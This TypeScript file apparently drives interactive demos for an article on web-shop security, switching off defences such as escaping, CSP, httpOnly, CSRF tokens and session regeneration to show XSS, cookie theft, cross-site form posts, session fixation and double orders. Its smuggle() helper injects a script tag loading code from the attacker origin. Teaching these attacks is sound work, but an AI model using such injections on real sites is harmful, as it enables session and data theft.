import type { Settings, SwitchName } from '../../../server/session-server.ts';
import type { PaneId } from '../../shared/bench-records.ts';
import type { ExperimentId } from '../../shared/experiment-ids.ts';
import { visitorOfJar } from '../../shared/visitor-id.ts';
import type { ShopBreakpoints } from '../../shop/breakpoints/shop-breakpoints.ts';
import type { Actor, Actors } from './actors.ts';

/** What an experiment plays on. */
interface Stage extends Actors {
  /** The attacker's site: its origin. */
  readonly attacker: string;
  readonly breakpoints: ShopBreakpoints;
}

/** One thing that somebody does in an experiment, as the shop sees it. */
interface Deed {
  readonly who: 'victim' | 'thief';
  readonly method: 'GET' | 'POST';
  readonly path: string;
}

/** One of the article's experiments: what is turned off, and how the stage is set so that one deed shows what follows. */
export interface Experiment {
  /** Turned off at its beginning. */
  readonly weaken: Partial<Settings>;
  /** Switches that decide how it ends. */
  readonly switches: readonly SwitchName[];
  /** What is to be done, in this order: then there is something to see. */
  readonly deeds: readonly Deed[];
  /**
   * Sets the stage, and leaves the keyboard at the first deed. Victim and thief are strangers to the shop before it. May be
   * called again and again, each time from the start. @returns the pane that it opened, if any
   */
  prepare(stage: Stage): Promise<PaneId | null>;
}

const sendRole: Deed = { who: 'victim', method: 'POST', path: '/team/formdemo.html' };
const add: Deed = { who: 'victim', method: 'POST', path: '/cart/add' };
const order: Deed = { who: 'victim', method: 'POST', path: '/checkout/' };

export const experiments: Readonly<Record<ExperimentId, Experiment>> = {
  'no-sessions': {
    weaken: { sessions: false },
    switches: ['sessions'],
    deeds: [sendRole],
    prepare: ({ victim }) => fillRole(victim, 'waiter', '2'),
  },
  script: {
    weaken: { escaping: false, contentSecurityPolicy: false },
    switches: ['escaping', 'contentSecurityPolicy', 'httpOnly'],
    deeds: [sendRole],
    prepare: ({ victim, attacker }) => smuggle(victim, attacker),
  },
  'lost-update': {
    weaken: { queue: false, checkRevision: false },
    switches: ['queue', 'checkRevision'],
    deeds: [add, add],
    prepare: async ({ victim, breakpoints }) => {
      await victim.buy('tea');
      const opened = await victim.goInTwoPanes('/shop/', 'bread');
      await victim.standReady({ field: 'product', value: 'juice' });
      breakpoints.set({ where: 'between', who: visitorOfJar(victim.jarId), method: 'POST', path: '/cart/add' });
      return opened;
    },
  },
  'double-order': {
    weaken: { destroyAtCheckout: false, orderToken: false },
    switches: ['destroyAtCheckout', 'orderToken'],
    deeds: [order, order],
    prepare: async ({ victim }) => {
      await victim.buy('juice');
      await victim.go('/checkout/');
      await victim.standReady({ field: 'order' });
      return null;
    },
  },
  'foreign-form': {
    weaken: { csrf: false, originCheck: false, sameSite: 'off' },
    switches: ['csrf', 'originCheck', 'sameSite'],
    deeds: [{ who: 'victim', method: 'POST', path: '/cart/clear' }],
    prepare: async ({ victim, attacker }) => {
      // A ticket of now: one without SameSite goes with a foreign form for two minutes only (RFC 6265bis 5.6.7.2).
      await victim.buy('tea');
      await victim.go(`${attacker}/prize`);
      await victim.standReady({});
      return null;
    },
  },
  fixation: {
    weaken: { regenerateAtLogin: false },
    switches: ['regenerateAtLogin'],
    deeds: [
      { who: 'victim', method: 'POST', path: '/login' },
      { who: 'thief', method: 'GET', path: '/' },
    ],
    prepare: async ({ victim, thief }) => {
      await thief.buy('tea');
      await thief.lendTicketTo(victim);
      await thief.go('/');
      await victim.go('/');
      await victim.fill({ name: 'Ann' });
      await victim.standReady({ field: 'name' });
      return null;
    },
  },
  'stolen-ticket': {
    weaken: { escaping: false, contentSecurityPolicy: false, httpOnly: false },
    switches: ['httpOnly', 'escaping', 'contentSecurityPolicy'],
    deeds: [sendRole, { who: 'thief', method: 'GET', path: '/cart/' }],
    prepare: async ({ victim, thief, attacker }) => {
      await thief.go(`${attacker}/caught`);
      await victim.buy('bread');
      return smuggle(victim, attacker);
    },
  },
};

/** A role that is a script. */
function smuggle(victim: Actor, attacker: string): Promise<null> {
  return fillRole(victim, `<script src="${attacker}/prank.js"></script>`, '1');
}

/** Fills the article's form in; sending it is left to the person. */
async function fillRole(victim: Actor, role: string, count: string): Promise<null> {
  await victim.go('/team/formdemo.html');
  await victim.fill({ role, count });
  await victim.standReady({ field: 'role' });
  return null;
}
